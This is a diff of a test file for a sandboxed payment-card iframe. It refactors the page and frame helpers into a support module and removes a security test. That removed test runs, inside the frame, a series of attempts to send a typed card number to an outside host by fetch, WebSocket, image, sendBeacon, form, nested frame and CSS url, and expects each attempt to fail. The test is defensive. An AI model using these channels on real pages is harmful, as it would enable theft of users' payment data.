@@ -1,11 +1,9 @@
-import { once } from 'node:events';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Frame, Page } from 'playwright-core';
 import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { ServiceCalls } from '../tools/service-calls.ts';
 import { visa } from './support/cards.ts';
 import { openFrame } from './support/frame-host.ts';
+import { frameIn, type Opened, servePage } from './support/frame-in-page.ts';
 import { Person } from './support/person.ts';
 import { type Account, openAccount } from './support/sandbox.ts';
 import { Recording } from './support/traces.ts';
@@ -37,7 +35,7 @@ let arrived: string[] = [];
 beforeAll(async () => {
   account = await openAccount();
   address = await openFrame(account.cards);
-  [listed, unlisted] = await Promise.all([openPage('127.0.0.1'), openPage('localhost')]);
+  [listed, unlisted] = await Promise.all([servePage('127.0.0.1'), servePage('localhost')]);
 });
 
 beforeEach(async () => {
@@ -52,41 +50,7 @@ beforeEach(async () => {
 
 afterEach(() => person.leave());
 
-/** Serves an empty page. It ends with the process. */
-async function openPage(host: string): Promise<string> {
-  const server = createServer((_, response) => {
-    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Shop</title><body></body>');
-  });
-  server.listen(0, host);
-  await once(server, 'listening');
-  return `http://${host}:${(server.address() as AddressInfo).port}`; // a server on a port has one
-}
-
-interface Opened {
-  readonly page: Page;
-  readonly frame: Frame;
-}
-
-/** Opens a page with the frame in it, and nothing else. */
-async function open(origin: string): Promise<Opened> {
-  const { page } = person;
-  await page.goto(`${origin}/`);
-  await page.evaluate(
-    (src) =>
-      new Promise((loaded) => {
-        const frame = document.createElement('iframe');
-        frame.src = src;
-        frame.width = '400';
-        frame.height = '400';
-        frame.addEventListener('load', loaded);
-        frame.sandbox.add('allow-scripts', 'allow-same-origin');
-        document.body.append(frame);
-      }),
-    address,
-  );
-  const frame = page.frames().find((one) => one.url().startsWith(address)) ?? page.mainFrame();
-  return { page, frame };
-}
+const open = (origin: string): Promise<Opened> => frameIn(person.page, origin, address);
 
 /** Sends a message with ports to the frame. The first port and what it has received are `port` and `answers` of the page. */
 async function send({ page, frame }: Opened, message: unknown, ports = 1): Promise<void> {
@@ -346,53 +310,4 @@ it('a page that asks on its own, a hundred times at once and with used ids, gets
   await ask([7, 101]);
   await expect.poll(async () => (await sent()).length).toBe(101);
   expect(posts()).toBe(2);
-});
-
-it('what is typed cannot be sent anywhere from the frame, whatever runs in it', async () => {
-  const opened = await open(listed);
-  const { page, frame } = opened;
-  await answerTo(opened, init);
-  await frame.locator('#number').fill('4242424242424242');
-  const tried = await frame.evaluate(async (url) => {
-    const results: Record<string, string> = {};
-    const attempt = async (name: string, act: () => unknown) => {
-      results[name] = await Promise.resolve()
-        .then(act)
-        .then(
-          (value) => `${value}`,
-          () => 'failed',
-        );
-    };
-    await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }));
-    await attempt(
-      'socket',
-      () =>
-        new Promise((resolve) =>
-          Object.assign(new WebSocket('ws://elsewhere.example/'), { onerror: () => resolve('failed') }),
-        ),
-    );
-    await attempt(
-      'image',
-      () =>
-        new Promise((resolve) =>
-          Object.assign(new Image(), { src: `${url}/image`, onerror: () => resolve('failed') }),
-        ),
-    );
-    await attempt('window', () => `${window.open(`${url}/window`)}`);
-    await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, '4242') && 'queued');
-    await attempt('form', () => {
-      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'get' });
-      document.body.append(form);
-      form.submit();
-    });
-    await attempt('frame', () =>
-      document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` })),
-    );
-    await attempt('style', () => Object.assign(document.body.style, { background: `url(${url}/style)` }));
-    return results;
-  }, ELSEWHERE);
-  expect(tried).toMatchObject({ fetch: 'failed', socket: 'failed', image: 'failed', window: 'null' });
-  await page.evaluate(() => new Promise(requestAnimationFrame));
-  await frame.locator('#number').waitFor(); // it is still the same document
-  expect(arrived).toEqual([]);
 });
